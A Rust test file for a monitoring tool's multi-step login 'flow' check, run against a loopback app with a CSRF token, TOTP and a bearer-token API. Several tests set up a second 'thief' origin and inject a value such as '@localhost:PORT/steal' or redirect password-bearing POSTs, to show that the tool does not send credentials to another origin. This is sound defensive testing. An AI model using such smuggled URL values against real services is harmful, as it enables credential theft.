//! The `flow` check against a real login application on loopback: a session cookie, a CSRF
//! token in a hidden field, a TOTP second factor, and a JSON API behind a bearer token.

use std::time::Duration;

use nightjar::result::{CheckResult, Details, FailureReason, FlowDetails};

use crate::support::hostile::{Behaviour, Hostile};
use crate::support::{
    LoginApp, assert_check_contract, assert_fail, assert_pass, load, metrics_after, run_check_env,
    sample,
};

const PASSWORD: &str = "correct horse battery staple";
/// An 80-bit secret, as many real sites issue.
const TOTP_SECRET: &str = "JBSWY3DPEHPK3PXP";
const OTHER_TOTP_SECRET: &str = "KRUGKIDROVUWG2ZAMJZG653OEBTG66BA";

fn login_flow(app: &LoginApp, extra_step: &str) -> String {
    format!(
        r#"[[check]]
name = "login"
type = "flow"
timeout = "10s"

  [[check.steps]]
  name = "login-page"
  url = "{login}"
  expect = {{ status = [200], body_contains = ["Sign in"] }}
  extract = {{ csrf = {{ form_field = "csrf_token" }} }}
{extra_step}
  [[check.steps]]
  name = "submit"
  method = "POST"
  url = "{login}"
  form = {{ email = "probe@example.com", password = "${{env:LOGIN_PASSWORD}}", csrf_token = "${{csrf}}" }}
  follow_redirects = false
  expect = {{ status = [302], headers = {{ location = "^/mfa$" }} }}
  extract = {{ next = {{ header = "location" }}, session = {{ cookie = "session" }} }}

  [[check.steps]]
  name = "mfa"
  method = "POST"
  url = "{base}${{next}}"
  form = {{ code = "${{totp:env:LOGIN_TOTP}}" }}
  expect = {{ status = [200], body_contains = ["Signed in as probe@example.com"] }}

  [[check.steps]]
  name = "api-token"
  method = "POST"
  url = "{base}/api/token"
  json = {{ email = "probe@example.com", password = "${{env:LOGIN_PASSWORD}}", remember = true }}
  expect = {{ status = [200] }}
  extract = {{ token = {{ json_pointer = "/token" }}, lifetime = {{ regex = '"expires_in": (\d+)' }} }}

  [[check.steps]]
  name = "api-me"
  url = "{base}/api/me"
  bearer_token = "${{token}}"
  expect = {{ json = [{{ pointer = "/email", equals = "probe@example.com" }}] }}
"#,
        login = app.url("/login"),
        base = app.url(""),
    )
}

fn steps(res: &CheckResult) -> &FlowDetails {
    match &res.details {
        Details::Flow(flow) => flow,
        other => panic!("no flow details in {other:?}"),
    }
}

fn good_env() -> Vec<(&'static str, &'static str)> {
    vec![("LOGIN_PASSWORD", PASSWORD), ("LOGIN_TOTP", TOTP_SECRET)]
}

/// Every secret, cookie and extracted value a run may have seen.
fn assert_no_secret(text: &str, res: &CheckResult) {
    for secret in [PASSWORD, TOTP_SECRET, "horse battery"] {
        assert!(!text.contains(secret), "{secret:?} leaked into:\n{text}");
    }
    let _ = res;
}

#[tokio::test]
async fn a_full_login_with_csrf_totp_and_a_bearer_api() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let text = login_flow(&app, "");
    let res = run_check_env(&text, &good_env()).await;
    assert_pass(&res);
    let flow = steps(&res);
    let names: Vec<&str> = flow.steps.iter().map(|step| step.name.as_str()).collect();
    assert_eq!(
        names,
        ["login-page", "submit", "mfa", "api-token", "api-me"]
    );
    assert!(flow.steps.iter().all(|step| step.success));
    // POST /mfa answered 302 /account; the redirect was followed with the session cookie.
    assert_eq!(flow.steps[2].http.redirects, 1);

    let config = load(&text, &good_env());
    let metrics = nightjar::metrics::Metrics::new(&config);
    metrics.observe(&res);
    let metrics = metrics.render();
    assert_check_contract(&res, &metrics);
    for step in names {
        assert_eq!(
            sample(
                &metrics,
                "nightjar_flow_step_success",
                &[("check", "login"), ("step", step)]
            ),
            Some(1.0)
        );
        assert!(
            sample(
                &metrics,
                "nightjar_flow_step_duration_seconds",
                &[("check", "login"), ("step", step)]
            )
            .unwrap()
                > 0.0
        );
    }
    let json = serde_json::to_string(&nightjar::status::RunView::new(&res)).unwrap();
    assert!(json.contains("\"name\":\"api-me\""), "{json}");
    assert_no_secret(&metrics, &res);
    assert_no_secret(&json, &res);
}

#[tokio::test]
async fn a_wrong_password_fails_at_the_submit_step_without_leaking_it() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let wrong = "hunter2-is-not-it";
    let res = run_check_env(
        &login_flow(&app, ""),
        &[("LOGIN_PASSWORD", wrong), ("LOGIN_TOTP", TOTP_SECRET)],
    )
    .await;
    assert_fail(
        &res,
        FailureReason::Status,
        "step \"submit\": expected status 302, got 403 Forbidden",
    );
    let flow = steps(&res);
    assert_eq!(flow.failed_step.as_deref(), Some("submit"));
    assert_eq!(flow.steps.len(), 2, "the run stops at the failing step");
    let text = login_flow(&app, "");
    let metrics = metrics_after(
        &text
            .replace("${env:LOGIN_PASSWORD}", "x")
            .replace("${totp:env:LOGIN_TOTP}", "1"),
        &res,
    );
    assert_eq!(
        sample(
            &metrics,
            "nightjar_flow_step_success",
            &[("step", "submit")]
        ),
        Some(0.0)
    );
    assert_eq!(
        sample(&metrics, "nightjar_flow_step_success", &[("step", "mfa")]),
        Some(0.0)
    );
    assert!(!format!("{:?}", res.status).contains(wrong));
}

#[tokio::test]
async fn an_expired_csrf_token_fails_at_the_submit_step() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    // Loading the login page again rotates the token; the one extracted first is now stale.
    let reload = format!(
        "\n  [[check.steps]]\n  name = \"reload\"\n  url = \"{}\"\n",
        app.url("/login")
    );
    let res = run_check_env(&login_flow(&app, &reload), &good_env()).await;
    assert_fail(
        &res,
        FailureReason::Status,
        "step \"submit\": expected status 302, got 403",
    );
}

#[tokio::test]
async fn a_wrong_totp_code_fails_at_the_mfa_step() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let res = run_check_env(
        &login_flow(&app, ""),
        &[
            ("LOGIN_PASSWORD", PASSWORD),
            ("LOGIN_TOTP", OTHER_TOTP_SECRET),
        ],
    )
    .await;
    assert_fail(
        &res,
        FailureReason::Status,
        "step \"mfa\": expected status 200, got 403",
    );
    assert!(!format!("{:?}", res.status).contains(OTHER_TOTP_SECRET));
}

#[tokio::test]
async fn a_missing_form_field_is_an_extraction_failure() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let text = login_flow(&app, "").replace("form_field = \"csrf_token\"", "form_field = \"csrf\"");
    let res = run_check_env(&text, &good_env()).await;
    assert_fail(
        &res,
        FailureReason::Extract,
        "step \"login-page\": could not extract ${csrf}: no form field named \"csrf\"",
    );
}

#[tokio::test]
async fn a_step_timeout_is_its_own_within_the_check_timeout() {
    let slow = Hostile::start(Behaviour::SlowHeaders).await;
    let text = format!(
        "[[check]]\nname = \"f\"\ntype = \"flow\"\ntimeout = \"5s\"\n[[check.steps]]\nname = \"slow\"\nurl = \"{}\"\ntimeout = \"300ms\"\n",
        slow.url("/")
    );
    let started = std::time::Instant::now();
    let res = run_check_env(&text, &[]).await;
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert_fail(
        &res,
        FailureReason::Timeout,
        "step \"slow\": timed out waiting for the response headers",
    );
    assert_fail(&res, FailureReason::Timeout, "(the step's timeout)");
}

#[test]
fn no_secret_reaches_the_cli_output_or_logs() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("flow.toml");
    std::fs::write(&config, login_flow(&app, "")).unwrap();
    for (password, format) in [
        (PASSWORD, "json"),
        ("wrong-password-value", "json"),
        ("wrong-password-value", "junit"),
        (PASSWORD, "text"),
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_nightjar"))
            .args([
                "check",
                "--log-level",
                "debug",
                "--format",
                format,
                "--config",
            ])
            .arg(&config)
            .env("LOGIN_PASSWORD", password)
            .env("LOGIN_TOTP", TOTP_SECRET)
            .output()
            .unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        for secret in [password, TOTP_SECRET] {
            assert!(
                !all.contains(secret),
                "{secret:?} leaked with --format {format}:\n{all}"
            );
        }
        assert!(!all.contains("session="), "a cookie leaked:\n{all}");
    }
}

#[tokio::test]
async fn basic_auth_and_json_bodies_carry_variables() {
    let nginx = crate::support::Nginx::start();
    let text = format!(
        r#"[[check]]
name = "f"
type = "flow"
  [[check.steps]]
  name = "first"
  url = "{json}"
  extract = {{ status = {{ json_pointer = "/status" }}, count = {{ json_pointer = "/count" }} }}
  [[check.steps]]
  name = "second"
  method = "PUT"
  url = "{echo}?n=${{count}}"
  basic_auth = {{ username = "probe-${{status}}", password = "${{env:PW}}" }}
  json = {{ state = "${{status}}", nested = {{ list = [1, "${{count}}"] }} }}
  expect = {{ body_contains = ["method=PUT", "auth=Basic cHJvYmUtb2s6b3BlbiBzZXNhbWU="] }}
"#,
        json = nginx.url("/json"),
        echo = nginx.url("/echo"),
    );
    let res = run_check_env(&text, &[("PW", "open sesame")]).await;
    assert_pass(&res);
}

#[test]
fn flow_config_errors() {
    let text = r#"[[check]]
name = "f"
type = "flow"
  [[check.steps]]
  name = "one"
  url = "https://example.com/${token}"
  form = { a = "b" }
  body = "c"
  extract = { "bad-name" = { cookie = "x" }, nothing = {} }
  [[check.steps]]
  name = "one"
  url = "https://example.com/"
  form = { code = "${totp:env:NOT_SET}" }
"#;
    let err = crate::support::config_errors("f.toml", text);
    for part in [
        "f.toml:6:9: variable ${token} is not extracted by an earlier step",
        "sets more than one of `body`, `form` and `json`",
        "\"bad-name\" is not a valid variable name",
        "says nothing to extract",
        "f.toml:11:10: duplicate step name \"one\"",
        "f.toml:13:19: environment variable NOT_SET is not set",
    ] {
        assert!(err.contains(part), "{part:?} missing from:\n{err}");
    }
}

/// A flow whose last step takes its URL from a redirect the application was made to give
/// (`/go?next=...`, an open redirect), with a bearer token and an API-key header.
fn stealing_flow(app: &LoginApp, next: &str, last_url: &str, follow: bool) -> String {
    format!(
        r#"[[check]]
name = "steal"
type = "flow"
timeout = "10s"

  [[check.steps]]
  name = "token"
  method = "POST"
  url = "{base}/api/token"
  json = {{ email = "probe@example.com", password = "${{env:LOGIN_PASSWORD}}" }}
  extract = {{ token = {{ json_pointer = "/token" }} }}

  [[check.steps]]
  name = "link"
  url = "{base}/go?next={next}"
  follow_redirects = false
  expect = {{ status = [302] }}
  extract = {{ next = {{ header = "location" }} }}

  [[check.steps]]
  name = "me"
  url = "{last_url}"
  bearer_token = "${{token}}"
  headers = {{ x-api-key = "${{token}}" }}
  follow_redirects = {follow}
"#,
        base = app.url(""),
        next = crate::support::encode(next),
    )
}

/// What the second origin's `/steal` received.
async fn stolen(thief: &LoginApp) -> Vec<serde_json::Value> {
    let (status, body) = crate::support::http_get(thief.addr, "/stolen").await;
    assert_eq!(status, 200);
    serde_json::from_str(&body).unwrap()
}

#[tokio::test]
async fn a_variable_cannot_send_credentials_to_another_origin() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    // A second origin that records what it is sent; reached as localhost, not 127.0.0.1.
    let thief = LoginApp::start(PASSWORD, TOTP_SECRET);
    let thief_authority = format!("localhost:{}", thief.addr.port());
    let base = app.url("");

    // The attack of issue 14: `http://127.0.0.1:PORT${next}` with next = "@localhost:...".
    let text = stealing_flow(
        &app,
        &format!("@{thief_authority}/steal"),
        &format!("{base}${{next}}"),
        false,
    );
    let res = run_check_env(&text, &good_env()).await;
    assert_fail(
        &res,
        FailureReason::Extract,
        "variable ${next} would change the URL's user-info",
    );
    assert_eq!(steps(&res).failed_step.as_deref(), Some("me"));
    assert!(
        stolen(&thief).await.is_empty(),
        "nothing reached the other origin"
    );

    // In the path it is only a path, percent-encoded: the application answers 404.
    let text = stealing_flow(
        &app,
        &format!("@{thief_authority}/steal"),
        &format!("{base}/api/me/${{next}}"),
        false,
    );
    let res = run_check_env(&text, &good_env()).await;
    assert_fail(&res, FailureReason::Status, "404");
    assert!(stolen(&thief).await.is_empty());

    // A URL that is a variable as a whole goes where it says, without the credentials.
    let text = stealing_flow(
        &app,
        &format!("http://{thief_authority}/steal"),
        "${next}",
        false,
    );
    let res = run_check_env(&text, &good_env()).await;
    assert_pass(&res);
    let seen = stolen(&thief).await;
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0]["authorization"], "", "{seen:?}");

    // A redirect to another origin drops them too.
    let text = stealing_flow(
        &app,
        "/ping",
        &format!(
            "{base}/go?next={}",
            crate::support::encode(&format!("http://{thief_authority}/steal"))
        ),
        true,
    );
    let res = run_check_env(&text, &good_env()).await;
    assert_pass(&res);
    assert_eq!(steps(&res).steps[2].http.redirects, 1);
    let seen = stolen(&thief).await;
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[1]["authorization"], "", "{seen:?}");

    // The same flow on its own origin still carries the token: the login application's API
    // accepts it.
    let text = stealing_flow(&app, "/api/me", &format!("{base}${{next}}"), false)
        + "  expect = { json = [{ pointer = \"/email\", equals = \"probe@example.com\" }] }\n";
    let res = run_check_env(&text, &good_env()).await;
    assert_pass(&res);
}

/// A flow that posts a login form (the password and a CSRF token) to the application's open
/// redirect, which answers `status` to `next`.
fn posting_flow(app: &LoginApp, status: u16, next: &str) -> String {
    format!(
        r#"[[check]]
name = "post"
type = "flow"
timeout = "10s"

  [[check.steps]]
  name = "login-page"
  url = "{login}"
  extract = {{ csrf = {{ form_field = "csrf_token" }} }}

  [[check.steps]]
  name = "submit"
  method = "POST"
  url = "{go}"
  form = {{ email = "probe@example.com", password = "${{env:LOGIN_PASSWORD}}", csrf_token = "${{csrf}}" }}
"#,
        login = app.url("/login"),
        go = app.url(&format!(
            "/go?status={status}&next={}",
            crate::support::encode(next)
        )),
    )
}

#[tokio::test]
async fn a_body_does_not_follow_a_307_or_308_to_another_origin() {
    let app = LoginApp::start(PASSWORD, TOTP_SECRET);
    let thief = LoginApp::start(PASSWORD, TOTP_SECRET);
    let thief_origin = format!("http://localhost:{}", thief.addr.port());
    let elsewhere = format!("{thief_origin}/steal");

    // 307 and 308 keep the method and the body: to another origin, the run fails instead.
    for status in [307, 308] {
        let res = run_check_env(&posting_flow(&app, status, &elsewhere), &good_env()).await;
        assert_fail(
            &res,
            FailureReason::Redirect,
            &format!(
                "step \"submit\": {status} redirect to another origin ({thief_origin}); the request body is not re-sent there"
            ),
        );
        assert_eq!(steps(&res).failed_step.as_deref(), Some("submit"));
        assert_eq!(steps(&res).steps[1].http.redirects, 0);
        assert_no_secret(&format!("{:?}", res.status), &res);
    }
    assert!(
        stolen(&thief).await.is_empty(),
        "nothing reached the other origin"
    );

    // On the same origin they re-send it, as they must.
    for status in [307, 308] {
        let res = run_check_env(&posting_flow(&app, status, "/steal"), &good_env()).await;
        assert_pass(&res);
        assert_eq!(steps(&res).steps[1].http.redirects, 1);
    }
    let seen = stolen(&app).await;
    assert_eq!(seen.len(), 2, "{seen:?}");
    for hop in &seen {
        assert_eq!(hop["method"], "POST", "{seen:?}");
        let body = hop["body"].as_str().unwrap();
        assert!(
            body.contains("password=correct+horse+battery+staple") && body.contains("csrf_token="),
            "{body:?}"
        );
    }

    // 301, 302 and 303 of a POST become a GET without a body, which may go anywhere.
    for status in [301, 302, 303] {
        let res = run_check_env(&posting_flow(&app, status, &elsewhere), &good_env()).await;
        assert_pass(&res);
        assert_eq!(steps(&res).steps[1].http.redirects, 1);
    }
    let seen = stolen(&thief).await;
    assert_eq!(seen.len(), 3, "{seen:?}");
    for hop in &seen {
        assert_eq!(hop["method"], "GET", "{seen:?}");
        assert_eq!(hop["body"], "", "{seen:?}");
        assert_eq!(hop["cookie"], "", "{seen:?}");
    }
}

#[test]
fn a_variable_inside_a_urls_authority_is_a_config_error() {
    let text = r#"[[check]]
name = "f"
type = "flow"
  [[check.steps]]
  name = "one"
  url = "https://example.com/"
  extract = { tenant = { regex = "tenant=(\\w+)" }, port = { header = "x-port" } }
  [[check.steps]]
  name = "two"
  url = "https://${tenant}.example.com/"
  [[check.steps]]
  name = "three"
  url = "https://api-${tenant}.example.com/"
  [[check.steps]]
  name = "four"
  url = "http://127.0.0.1:${port}/"
  [[check.steps]]
  name = "five"
  url = "https://probe:${tenant}@example.com/"
  [[check.steps]]
  name = "fine"
  url = "https://example.com${tenant}"
  [[check.steps]]
  name = "also-fine"
  url = "${tenant}"
"#;
    let err = crate::support::config_errors("f.toml", text);
    for part in [
        "f.toml:10:9: variable ${tenant} is inside the URL's host",
        "f.toml:13:9: variable ${tenant} is inside the URL's host",
        "f.toml:16:9: variable ${port} is inside the URL's port",
        "f.toml:19:9: variable ${tenant} is inside the URL's user-info",
        "a variable cannot choose the scheme, user-info, host or port",
        "make the whole URL a variable",
        "credentials go in basic_auth",
    ] {
        assert!(err.contains(part), "{part:?} missing from:\n{err}");
    }
    assert_eq!(
        err.matches("is inside the URL's").count(),
        4,
        "the steps fine and also-fine are fine:\n{err}"
    );
}
